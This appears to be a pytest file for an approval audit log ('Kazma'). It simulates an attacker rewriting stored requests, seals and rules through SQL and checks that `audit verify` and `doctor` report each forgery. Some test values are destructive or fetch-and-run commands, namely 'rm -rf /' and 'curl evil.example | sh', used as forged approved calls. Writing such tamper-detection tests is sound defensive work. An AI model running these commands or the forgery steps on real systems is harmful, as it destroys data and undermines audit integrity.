"""`kazma audit verify` on the store checks every finished request's decision seal, on SQLite and on PostgreSQL.

The hash chain and its checkpoints prove the log; the request rows beside it are checked against the log's events
(their status and decider). What a row says beyond those (the call it approved, where and when it was decided, the
person) only its decision seal binds: a row rewritten there, the log untouched, passed `audit verify` (only
`kazma doctor` checked seals). Each test lets Kazma write a real log, then rewrites rows through a connection of
its own (what the file's or the role's owner can do), never through Kazma.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from kazma.approvals import Decision
from kazma.approvals.chain import event_hash
from kazma.approvals.checkpointer import Checkpointer
from kazma.approvals.hashing import args_hash, canonical_json
from kazma.approvals.rules import Rule, RuleStore
from kazma.approvals.service import CardLocation
from kazma.bot.cli import main
from kazma.bot.cli.store_copy import copy_store
from kazma.config import load_config_text
from kazma.config.keyring import DECISION_KEYS, keys_folder
from kazma.config.store.postgres import PgStore
from tests.approvals_support import APPROVERS_YAML, TEST_KEY, TEST_SIGNER, approval_service
from tests.audit_support import ARGS, KEY_ENV, Attacker, Log, config_text, make_log, run_async
from tests.store_backends import Engine, open_store, raw_rows
from tests.test_audit_chain import _before_the_chain


def verify(tmp_path: Path, engine: Engine, *args: str, env: dict[str, str | None] | None = None) -> Result:
    config = tmp_path / "kazma.yaml"
    config.write_text(config_text(tmp_path, engine))
    return CliRunner().invoke(main, ["-c", str(config), "audit", "verify", *args], env=KEY_ENV if env is None else env)


def doctor_seals(tmp_path: Path, engine: Engine, env: dict[str, str | None] | None = None) -> str:
    """The line `kazma doctor` prints for the decision seals."""
    config = tmp_path / "kazma.yaml"
    config.write_text(config_text(tmp_path, engine))
    result = CliRunner().invoke(
        main,
        ["-c", str(config), "doctor", "--platform-timeout", "1", "--model-timeout", "1"],
        env=KEY_ENV if env is None else env,
    )
    [line] = [text for text in result.stdout.splitlines() if "decision seals" in text]
    return line


@pytest.fixture
def log(store_engine: Engine, tmp_path: Path) -> Log:
    made: Log = run_async(make_log(store_engine.where))
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 0, result.stdout
    return made


def test_an_approved_call_rewritten_beside_an_untouched_log_is_named_by_its_seal(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """The approved deploy's row made to hold another call (its arguments and their hash), and the denial's row
    moved to another time: status and decider still match the log's events, so only the seals show it."""
    deploy, drop = log.requests["deploy"], log.requests["drop"]
    Attacker(store_engine).run(
        ("UPDATE approval_requests SET args_json = ?, args_hash = ? WHERE id = ?",
         ('{"command":"rm -rf /"}', args_hash({"command": "rm -rf /"}), deploy)),
        ("UPDATE approval_requests SET decided_at = decided_at - 3600 WHERE id = ?", (drop,)),
    )  # fmt: skip
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 1, result.stdout
    approved, denied = log.seqs["decided:deploy"], log.seqs["decided:drop"]
    # Its call differs from the one it was opened for, too: that event is the first one its row contradicts.
    assert f"FAILED: first bad sequence seq {log.seqs['opened:deploy']}: changed: request {deploy}'s stored call" in (
        result.stdout
    ), result.stdout
    assert f"seq {approved}: decision seal: request {deploy} (approved by telegram:111)" in result.stdout
    assert "telegram:111): its decision seal does not verify with key" in result.stdout, result.stdout
    assert f"seq {denied}: decision seal: request {drop} (denied by slack:U111)" in result.stdout, result.stdout


def test_a_seal_taken_off_a_decision_recorded_after_seals_began_is_named_whatever_the_schema_row_says(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """A row without a seal passes for one decided before Kazma sealed decisions when its decision is older than
    the schema's v7: that row is the store's too, so the forger moves it. The chain says better: an ending event
    chained after the history checkpoint (here every event) was written by a Kazma that sealed every outcome."""
    late = log.requests["late"]
    Attacker(store_engine).run(
        ("UPDATE approval_requests SET decision_mac = NULL, decision_key_id = NULL WHERE id = ?", (late,)),
        ("UPDATE kazma_schema SET applied_at = applied_at + 1e9 WHERE component = 'approvals' AND version = 7", ()),
    )
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 1, result.stdout
    assert (
        f"seq {log.seqs['timeout:late']}: decision seal: request {late} (timeout): it carries no decision seal, but "
        "its ending event was recorded after Kazma sealed every outcome" in result.stdout
    ), result.stdout
    # doctor's seal check took the schema row's word alone: "2 decisions verified; 1 decided before seals".
    said = doctor_seals(tmp_path, store_engine)
    assert said.startswith("FAIL"), said
    assert f"{late} (timeout by None): it carries no decision seal, but its ending event was recorded after" in said


def test_a_denial_flipped_with_a_forged_decided_event_and_a_borrowed_seal_fails_twice(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """The denial's row made an approval, the approval's seal copied onto it, and a matching `decided` event
    appended after the last checkpoint: the event is unsigned (no commit seal) and the seal binds another request."""
    deploy, drop = log.requests["deploy"], log.requests["drop"]
    attacker = Attacker(store_engine)
    last = attacker.events()[-1]
    seq = log.last + 1
    at = last.at + 1
    digest = event_hash(last.chain_hash or "", drop, "decided", "telegram:111", "telegram", at, None, "approved")
    attacker.run(
        ("UPDATE approval_requests SET status = 'approved', decided_by = 'telegram:111', decided_via = 'telegram',"
         " decision_mac = (SELECT decision_mac FROM approval_requests WHERE id = ?) WHERE id = ?", (deploy, drop)),
        ("INSERT INTO approval_events (seq, request_id, event, actor, platform, at, detail, prev_hash, chain_hash)"
         " VALUES (?, ?, 'decided', 'telegram:111', 'telegram', ?, 'approved', ?, ?)",
         (seq, drop, at, last.chain_hash, digest)),
    )  # fmt: skip
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 1, result.stdout
    assert f"seq {seq}: unsigned" in result.stdout, result.stdout
    assert f"decision seal: request {drop} (approved by telegram:111): its decision seal does not verify" in (
        result.stdout
    ), result.stdout


def test_without_the_decision_key_verify_says_the_seals_were_not_checked_and_fails(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """A verifier holding only the audit key cannot check a seal: "ok" would claim what was not checked."""
    result = verify(tmp_path, store_engine, env={**KEY_ENV, "KAZMA_DECISION_KEY": None})
    assert result.exit_code == 1, result.stdout
    assert "decision seal: 3 finished requests carry a decision seal that cannot be checked here" in result.stdout, (
        result.stdout
    )
    assert "no decision key is loaded here" in result.stdout, result.stdout


def test_a_finished_request_set_pending_again_or_its_row_deleted_is_named_at_its_ending_event(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """A denial's row put back to pending (so it can be approved again) still matches its `opened` event, and a
    deleted row matches nothing: the log records both requests' endings, untouched, and verify said "ok"."""
    drop, late = log.requests["drop"], log.requests["late"]
    Attacker(store_engine).run(
        ("UPDATE approval_requests SET status = 'pending', decided_by = NULL, decided_via = NULL, decided_at = NULL,"
         " decision_mac = NULL, decision_key_id = NULL WHERE id = ?", (drop,)),
        ("DELETE FROM approval_requests WHERE id = ?", (late,)),
    )  # fmt: skip
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 1, result.stdout
    denied, timed_out = log.seqs["decided:drop"], log.seqs["timeout:late"]
    assert f"FAILED: first bad sequence seq {denied}: decision seal: request {drop}'s row says pending" in (
        result.stdout
    ), result.stdout
    assert f"seq {timed_out}: decision seal: request {late}'s row is gone" in result.stdout, result.stdout


def test_an_approved_calls_stored_arguments_changed_under_the_same_hash_are_named(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """The seal binds the arguments' hash, not their text: the approved deploy's stored call rewritten, its hash
    (and so its seal) kept, read "ok" while `approvals show` printed a call nobody approved."""
    deploy = log.requests["deploy"]
    Attacker(store_engine).run(
        ("UPDATE approval_requests SET args_json = ? WHERE id = ?", ('{"command":"rm -rf /"}', deploy)),
    )
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 1, result.stdout
    assert (
        f"FAILED: first bad sequence seq {log.seqs['decided:deploy']}: decision seal: request {deploy} (approved by "
        "telegram:111): its stored call was changed around Kazma: the stored arguments hash to" in result.stdout
    ), result.stdout


def test_a_pending_requests_call_changed_before_anyone_decides_is_named_at_its_opened_event(
    store_engine: Engine, tmp_path: Path
) -> None:
    """A pending request's stored call (and its hash) rewritten before anyone looks: the cards show the new call,
    a person approves it, and its seal binds the new hash. Only the `opened` event, chained, still holds the call
    Kazma was asked for; verify compared no row's hash with it."""

    async def opened() -> tuple[str, int]:
        async with approval_service(store_engine.where) as service:
            request = await service.open("shell", ARGS, "agent:builder", "telegram:-100")
            await Checkpointer(service.store, TEST_SIGNER).sign()
            return request.id, (await service.store.last_event_seq())

    rid, seq = run_async(opened())
    assert verify(tmp_path, store_engine).exit_code == 0
    forged = {"command": "curl evil.example | sh"}
    Attacker(store_engine).run(
        ("UPDATE approval_requests SET args_json = ?, args_hash = ? WHERE id = ?",
         (canonical_json(forged), args_hash(forged), rid)),
    )  # fmt: skip

    async def approved() -> None:
        async with approval_service(store_engine.where) as service:
            assert (await service.decide(rid, Decision.APPROVE, actor="telegram:111", platform="telegram")).won
            await Checkpointer(service.store, TEST_SIGNER).sign()

    run_async(approved())
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 1, result.stdout
    assert (
        f"FAILED: first bad sequence seq {seq}: changed: request {rid}'s stored call hashes to "
        f"{args_hash(forged)[:12]}…, but the audit log records it opened for {args_hash(ARGS)[:12]}…" in result.stdout
    ), result.stdout


# --------------------------------------------------------------------------- decision keys rotated and retired


def test_decisions_sealed_by_a_key_retired_with_kazma_keys_retire_verify_as_history_not_as_a_failure(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """`kazma keys rotate` then `keys retire k1` (the README's own steps): the decisions k1 sealed are legitimate
    history, and verify failed on every store that ever retired a key ("cannot be checked here ... verify where
    Kazma's decision key is", when no such place is left). The key file records what was retired: verify names
    those seals as not checked, sealed by a retired key, and holds; a key nobody retired still fails."""
    if store_engine.postgres:
        pytest.skip("the key file lives beside a SQLite store; PostgreSQL replicas share $KAZMA_DECISION_KEY")
    config = tmp_path / "kazma.yaml"
    config.write_text(config_text(tmp_path, store_engine))
    folder = keys_folder(Path(store_engine.where))
    folder.mkdir(mode=0o700, exist_ok=True)
    key_file = DECISION_KEYS.file(folder)
    key_file.write_text(f"{TEST_KEY[0]}:{TEST_KEY[1]}\n")
    key_file.chmod(0o600)
    file_env = {**KEY_ENV, "KAZMA_DECISION_KEY": None}
    assert verify(tmp_path, store_engine, env=file_env).exit_code == 0
    runner = CliRunner()
    for step in (["rotate"], ["retire", TEST_KEY[0]]):
        done = runner.invoke(main, ["-c", str(config), "keys", *step], env=file_env)
        assert done.exit_code == 0, done.output
    result = verify(tmp_path, store_engine, env=file_env)
    assert result.exit_code == 0, result.stdout
    assert "decision seals: 0 verified; 3 sealed by retired key k1, not checked" in result.stdout, result.stdout
    said = doctor_seals(tmp_path, store_engine, env=file_env)
    assert said.startswith("OK"), said
    assert "0 decisions verified; 3 sealed by retired key k1 (history, not checked" in said, said
    # A key the file does not record as retired is not history: a replica given other keys, or a forgery.
    key_file.write_text(f"k9:{'9' * 48}\n")
    result = verify(tmp_path, store_engine, env=file_env)
    assert result.exit_code == 1, result.stdout
    assert "3 finished requests carry a decision seal that cannot be checked here" in result.stdout, result.stdout


def test_a_key_retired_from_kazma_decision_key_is_recorded_in_the_variable_and_verify_holds(
    store_engine: Engine, tmp_path: Path, log: Log
) -> None:
    """Replicas share $KAZMA_DECISION_KEY and retire a key by taking it out of the variable; a `# retired ID` line
    in it says so, as `kazma keys retire` writes it in the file: verify then holds on what that key sealed."""
    new = f"k2:{'2' * 48}"
    result = verify(tmp_path, store_engine, env={**KEY_ENV, "KAZMA_DECISION_KEY": f"{new}\n# retired k1\n"})
    assert result.exit_code == 0, result.stdout
    assert "3 sealed by retired key k1, not checked" in result.stdout, result.stdout
    # Taken out without a word: verify cannot tell a retirement from a forgery, and says so.
    result = verify(tmp_path, store_engine, env={**KEY_ENV, "KAZMA_DECISION_KEY": new})
    assert result.exit_code == 1, result.stdout
    assert "not in the decision keyring here" in result.stdout, result.stdout


def test_a_store_copied_from_sqlite_to_postgresql_verifies_there_seals_and_calls_alike(
    tmp_path: Path, pg_dsn: str
) -> None:
    """`kazma store copy`: the seals bind times to the microsecond and the calls' hashes are computed again from
    the stored text; PostgreSQL's own types must not make the copied history read as rewritten."""
    sqlite = Engine("sqlite", str(tmp_path / "k.db"))
    run_async(make_log(sqlite.where))
    assert verify(tmp_path, sqlite).exit_code == 0
    assert run_async(copy_store(Path(sqlite.where), pg_dsn)).ok
    result = verify(tmp_path, Engine("postgresql", pg_dsn))
    assert result.exit_code == 0, result.stdout
    assert "decision seals: 3 verified" in result.stdout, result.stdout


# --------------------------------------------------------------------------- remembered approvals (rules)


async def _remembered(where: str) -> tuple[str, str]:
    """A real "Approve for 1 h" (the rule and its rule_created, sealed), then a second one revoked through Kazma:
    (the first rule's id, the revoked one's)."""
    config = load_config_text(APPROVERS_YAML.replace("approvals:\n", "approvals:\n  remember: {enabled: true}\n", 1))
    async with approval_service(where, config=config.config) as service:
        tables = service.store.tables
        service.rules = RuleStore(tables if isinstance(tables, PgStore) else tables.conn)  # type: ignore[attr-defined]
        made: list[str] = []
        for command in ("deploy --prod", "restart web"):
            request = await service.open("shell", {"command": command}, "agent:builder", "telegram:-100")
            press = await service.decide(
                request.id, Decision.APPROVE, actor="telegram:111", platform="telegram", remember=True,
                card=CardLocation(None, None),
            )  # fmt: skip
            assert press.won, press.message
            [rule] = [r for r in await service.rules.list() if r.request_id == request.id]
            made.append(rule.id)
        assert await service.revoke_rule(made[1], actor="telegram:111", platform="telegram") is not None
        await Checkpointer(service.store, TEST_SIGNER).sign()
    return made[0], made[1]


def test_a_remembered_approval_forged_or_set_back_in_force_is_named_by_verify(
    store_engine: Engine, tmp_path: Path
) -> None:
    """A rule row is refused when a call consults it, but nothing reported it: the standing approval stretched to
    another call (its seal kept), and a revoked one set back in force, read "ok" until someone's call hit them."""
    stretched, revoked = run_async(_remembered(store_engine.where))
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 0, result.stdout
    assert "decision seals: 2 verified; remembered approvals: 2 verified" in result.stdout, result.stdout
    Attacker(store_engine).run(
        ("UPDATE approval_rules SET args_hash = ?, expires_at = expires_at + 86400 WHERE id = ?",
         (args_hash({"command": "rm -rf /"}), stretched)),
        ("UPDATE approval_rules SET revoked_at = NULL, revoked_by = NULL WHERE id = ?", (revoked,)),
    )  # fmt: skip
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 1, result.stdout
    assert f"decision seal: remembered approval {stretched} (by telegram:111): its seal does not verify" in (
        result.stdout
    ), result.stdout
    assert f"decision seal: remembered approval {revoked} (by telegram:111) says in force, but the audit log" in (
        result.stdout
    ), result.stdout


def test_a_store_upgraded_from_before_the_chain_verifies_with_its_unsealed_history_counted_apart(
    store_engine: Engine, tmp_path: Path
) -> None:
    """A store from the release before the audit chain holding a decision made before seals (no seal, decided
    before approvals v7 was applied): the first start chains its events once; verify and doctor must count that
    decision as history, not call it forged, and check the seal of every decision made since."""

    async def upgraded() -> str:
        async with open_store(store_engine, migrations=_before_the_chain(store_engine)):
            pass
        [(began,)] = raw_rows(
            store_engine, "SELECT applied_at FROM kazma_schema WHERE component = 'approvals' AND version = 7"
        )
        decided = float(began) - 3600
        digest = args_hash(ARGS)
        Attacker(store_engine).run(
            ("INSERT INTO approval_requests (id, tool, args_json, args_hash, requested_by, conversation, created_at,"
             " deadline, status, decided_by, decided_via, decided_at) VALUES ('old1', 'shell', ?, ?, 'agent:builder',"
             " 'telegram:-100', ?, ?, 'approved', 'telegram:111', 'telegram', ?)",
             (canonical_json(ARGS), digest, decided - 5, decided + 600, decided)),
            ("INSERT INTO approval_events (request_id, event, actor, platform, at, args_hash, detail)"
             " VALUES ('old1', 'opened', 'agent:builder', NULL, ?, ?, 'tool=shell')", (decided - 5, digest)),
            ("INSERT INTO approval_events (request_id, event, actor, platform, at, args_hash, detail)"
             " VALUES ('old1', 'decided', 'telegram:111', 'telegram', ?, ?, 'approved')", (decided, digest)),
        )  # fmt: skip
        async with approval_service(store_engine.where) as service:
            await service.store.start_chain()  # what kazma run does first
            request = await service.open("shell", ARGS, "agent:builder", "telegram:-100")
            assert (await service.decide(request.id, Decision.DENY, actor="slack:U111", platform="slack")).won
            await Checkpointer(service.store, TEST_SIGNER).sign()
        return request.id

    run_async(upgraded())
    result = verify(tmp_path, store_engine)
    assert result.exit_code == 0, result.stdout
    assert "decision seals: 1 verified (1 decided before seals)" in result.stdout, result.stdout
    said = doctor_seals(tmp_path, store_engine)
    assert said.startswith("OK"), said
    assert "1 decisions verified; 1 decided before seals" in said, said


def test_a_rule_revoked_while_verify_reads_the_rules_is_no_forgery(
    store_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Kazma runs while verify reads: a rule revoked (row and rule_revoked in one transaction) just after verify
    read its row as in force is for the next verify, not a rule "set back in force around Kazma"."""
    standing, _ = run_async(_remembered(store_engine.where))
    read_page = RuleStore.page
    revoked: list[str] = []

    async def page_then_revoke(self: RuleStore, *args: Any, **kwargs: Any) -> list[Rule]:
        found = await read_page(self, *args, **kwargs)
        if not revoked:
            revoked.append(standing)
            config = load_config_text(
                APPROVERS_YAML.replace("approvals:\n", "approvals:\n  remember: {enabled: true}\n", 1)
            )
            async with approval_service(store_engine.where, config=config.config) as service:
                tables = service.store.tables
                service.rules = RuleStore(tables if isinstance(tables, PgStore) else tables.conn)  # type: ignore[attr-defined]
                assert await service.revoke_rule(standing, actor="telegram:111", platform="telegram") is not None
        return found

    monkeypatch.setattr(RuleStore, "page", page_then_revoke)
    result = verify(tmp_path, store_engine)
    assert revoked == [standing]
    assert result.exit_code == 0, result.stdout
